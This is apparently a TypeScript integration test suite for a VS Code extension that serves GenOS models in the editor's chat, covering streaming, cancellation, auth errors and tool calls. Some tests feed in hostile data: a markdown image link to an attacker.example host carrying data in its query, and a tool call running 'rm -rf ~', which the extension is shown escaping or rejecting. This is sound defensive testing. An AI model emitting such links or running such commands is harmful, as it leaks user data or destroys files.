import { strict as assert } from 'node:assert';
import * as vscode from 'vscode';
import { FakeGenos } from '../support/genosServer';
import { confirmToken, genosConfig, useServer, waitFor } from './helpers';

// The provider API is stable from VS Code 1.104: the 1.139 run must have it, the 1.100 run must not.
const target = process.env.GENOS_VSCODE ?? '1.100';
const lm = vscode.lm as unknown as { registerLanguageModelChatProvider?: unknown };

/** VS Code 1.104+ parts, read by shape (the extension builds against 1.90's types). */
interface ToolCallPart {
  callId: string;
  name: string;
  input: object;
}
const vs = vscode as unknown as {
  LanguageModelToolCallPart: new (...args: never[]) => ToolCallPart;
  LanguageModelTextPart: new (...args: never[]) => { value: string };
};

async function genosModels(): Promise<vscode.LanguageModelChat[]> {
  return vscode.lm.selectChatModels({ vendor: 'genos' });
}

/** Sends `text` to a GenOS model in VS Code's chat API and collects what streams back. */
async function ask(
  model: vscode.LanguageModelChat,
  text: string,
  options: object = {},
  token?: vscode.CancellationToken,
): Promise<{ text: string; calls: ToolCallPart[] }> {
  const response = await model.sendRequest([vscode.LanguageModelChatMessage.User(text)], options, token);
  const out = { text: '', calls: [] as ToolCallPart[] };
  for await (const part of (response as unknown as { stream: AsyncIterable<unknown> }).stream) {
    if (part instanceof vs.LanguageModelTextPart) out.text += part.value;
    else if (part instanceof vs.LanguageModelToolCallPart) out.calls.push(part);
  }
  return out;
}

describe(`GenOS models in VS Code's own chat (VS Code ${target})`, () => {
  if (target !== '1.139') {
    it('is left out where the editor has no provider API; the panel still works', async () => {
      assert.equal(typeof lm.registerLanguageModelChatProvider, 'undefined');
      assert.deepEqual(await genosModels(), []);
      assert.ok((await vscode.commands.getCommands(true)).includes('genos.openChat'));
    });
    return;
  }

  let server: FakeGenos;

  before(async () => {
    server = new FakeGenos({
      token: 'native-chat-token',
      models: ['Qwen3-8B', '/models/google/gemma-3'],
      maxModelLen: 32768,
    });
    await server.start();
    await useServer(server);
    await genosConfig().update('userId', '653', vscode.ConfigurationTarget.Global);
    assert.equal(await confirmToken('native-chat-token'), true);
  });
  after(async () => {
    await genosConfig().update('userId', undefined, vscode.ConfigurationTarget.Global);
    await genosConfig().update('nativeChat.enabled', undefined, vscode.ConfigurationTarget.Global);
    await server.close();
  });

  it("lists the serving's models under the genos vendor, with windows from max_model_len and tool calling", async () => {
    assert.equal(typeof lm.registerLanguageModelChatProvider, 'function');
    let models: vscode.LanguageModelChat[] = [];
    await waitFor(async () => (models = await genosModels()).length === 2, 'the GenOS models in vscode.lm');
    assert.deepEqual(models.map((model) => model.id).sort(), ['/models/google/gemma-3', 'Qwen3-8B']);
    const qwen = models.find((model) => model.id === 'Qwen3-8B')!;
    assert.equal(qwen.vendor, 'genos');
    assert.equal(qwen.maxInputTokens, 32768 - 4096);
    assert.equal(models.find((model) => model.id !== 'Qwen3-8B')!.name, 'google/gemma-3');
    assert.ok((await qwen.countTokens('안녕하세요, GenOS')) > 0);
  });

  it('streams the answer through the same client: bearer, user id, and the text as GenOS sent it', async () => {
    const [model] = (await genosModels()).filter((m) => m.id === 'Qwen3-8B');
    server.chatQueue.push({ type: 'stream', content: ['네이티브 ', '채팅에서 ', '답합니다.'], delayMs: 5 });
    const answer = await ask(model, '안녕?');
    assert.equal(answer.text, '네이티브 채팅에서 답합니다.');
    const request = server.chatRequests.at(-1)!;
    assert.equal(request.headers.authorization, 'Bearer native-chat-token');
    assert.equal(request.headers['x-genos-user-id'], '653');
    const body = request.body as { model: string; messages: Array<{ role: string; content: string }>; tools?: unknown };
    assert.equal(body.model, 'Qwen3-8B');
    assert.deepEqual(body.messages.at(-1), { role: 'user', content: '안녕?' });
    assert.equal(body.tools, undefined);
  });

  it('hands the chat images in an answer as links, which its renderer does not load', async () => {
    const [model] = (await genosModels()).filter((m) => m.id === 'Qwen3-8B');
    server.chatQueue.push({ type: 'stream', content: ['요약 !', '[도표](https://attacker.example/p.png?c=code) 끝'] });
    const answer = await ask(model, '요약해 줘');
    assert.equal(answer.text, '요약 \\![도표](https://attacker.example/p.png?c=code) 끝');
  });

  it('closes the connection when the request is cancelled, and the server sees it', async () => {
    const [model] = (await genosModels()).filter((m) => m.id === 'Qwen3-8B');
    server.chatQueue.push({ type: 'stream', content: Array.from({ length: 200 }, (_, i) => `조각${i} `), delayMs: 50 });
    const cancel = new vscode.CancellationTokenSource();
    const response = await model.sendRequest(
      [vscode.LanguageModelChatMessage.User('길게 답해 주세요')],
      {},
      cancel.token,
    );
    let received = '';
    const reading = (async () => {
      for await (const fragment of response.text) {
        received += fragment;
        if (received.includes('조각2 ')) cancel.cancel();
      }
    })().catch(() => undefined);
    const request = () => server.chatRequests.at(-1)!;
    await waitFor(() => received.includes('조각2 '), 'the first fragments');
    await request().closed;
    assert.equal(request().closedEarly, true, 'the server saw the connection close before the answer ended');
    await reading;
    assert.ok(!received.includes('조각199'), 'the stream stopped');
  });

  it("turns a 401 into the panel's clear message", async () => {
    const [model] = (await genosModels()).filter((m) => m.id === 'Qwen3-8B');
    // The token is refused at the request (a changed token would also empty the model list).
    server.chatQueue.push({
      type: 'status',
      status: 401,
      body: JSON.stringify({ error: { message: 'invalid token' } }),
    });
    await assert.rejects(ask(model, 'hello'), /did not accept the access token \(401\)|인증키를 받아들이지/);
  });

  it("passes the chat's tools to GenOS and returns its tool calls as tool-call parts with parsed arguments", async () => {
    const [model] = (await genosModels()).filter((m) => m.id === 'Qwen3-8B');
    const args = { path: 'src/한글.ts', range: [1, 20] };
    server.chatQueue.push({
      type: 'stream',
      content: ['읽어 볼게요.'],
      toolCalls: [{ name: 'readFile', arguments: JSON.stringify(args) }],
    });
    const tools = [
      {
        name: 'readFile',
        description: 'Reads a file of the workspace',
        inputSchema: { type: 'object', properties: { path: { type: 'string' } } },
      },
    ];
    const answer = await ask(model, 'a.ts를 읽어 줘', { tools });
    assert.equal(answer.text, '읽어 볼게요.');
    assert.equal(answer.calls.length, 1);
    assert.equal(answer.calls[0].name, 'readFile');
    assert.match(answer.calls[0].callId, /^chatcmpl-tool-0/);
    assert.deepEqual(answer.calls[0].input, args);
    const body = server.chatRequests.at(-1)!.body as {
      tools: Array<{ type: string; function: { name: string; description: string; parameters: object } }>;
      tool_choice: string;
    };
    assert.deepEqual(body.tools, [
      {
        type: 'function',
        function: { name: 'readFile', description: tools[0].description, parameters: tools[0].inputSchema },
      },
    ]);
    assert.equal(body.tool_choice, 'auto');
  });

  it('hands on no call to a tool the chat did not offer', async () => {
    const [model] = (await genosModels()).filter((m) => m.id === 'Qwen3-8B');
    server.chatQueue.push({
      type: 'stream',
      content: ['지울게요.'],
      toolCalls: [{ name: 'runInTerminal', arguments: '{"command":"rm -rf ~"}' }],
    });
    const tools = [{ name: 'readFile', description: 'Reads a file', inputSchema: { type: 'object' } }];
    await assert.rejects(
      ask(model, 'a.ts를 읽어 줘', { tools }),
      /called a tool it was not offered \(runInTerminal\)|제공하지 않은 도구/,
    );
  });

  it('says clearly when the serving does not take tools', async () => {
    const [model] = (await genosModels()).filter((m) => m.id === 'Qwen3-8B');
    server.toolCalling = false;
    try {
      const tools = [{ name: 'readFile', description: 'Reads a file', inputSchema: { type: 'object' } }];
      await assert.rejects(
        ask(model, 'a.ts를 읽어 줘', { tools }),
        /does not accept tools, so agent mode cannot use it|도구\(tool\)를 받지 않아/,
      );
    } finally {
      server.toolCalling = true;
    }
  });

  it('asks for the models again, with back-off, when the serving could not list them', async () => {
    const listings = () => server.requests.filter((request) => request.path.endsWith('/v1/models')).length;
    // Busy for two listings (each tried three times by the client): only the provider asks again.
    for (let i = 0; i < 6; i++) {
      server.modelsQueue.push({
        type: 'status',
        status: 503,
        body: JSON.stringify({ object: 'error', message: 'busy', code: 503 }),
      });
    }
    const before = listings();
    try {
      await genosConfig().update('temperature', 0.4, vscode.ConfigurationTarget.Global);
      await waitFor(() => server.modelsQueue.length === 0, 'the failed listings', 30_000);
      await waitFor(
        () => listings() >= before + 7,
        'a listing after the failures that no one but the provider asked for',
        30_000,
      );
      assert.equal((await genosModels()).length, 2);
    } finally {
      server.modelsQueue.splice(0);
      await genosConfig().update('temperature', undefined, vscode.ConfigurationTarget.Global);
    }
  });

  it('lists no models once turned off, and again once turned on', async () => {
    await genosConfig().update('nativeChat.enabled', false, vscode.ConfigurationTarget.Global);
    await waitFor(async () => (await genosModels()).length === 0, 'no GenOS models while turned off');
    await genosConfig().update('nativeChat.enabled', undefined, vscode.ConfigurationTarget.Global);
    await waitFor(async () => (await genosModels()).length === 2, 'the GenOS models again');
  });
});
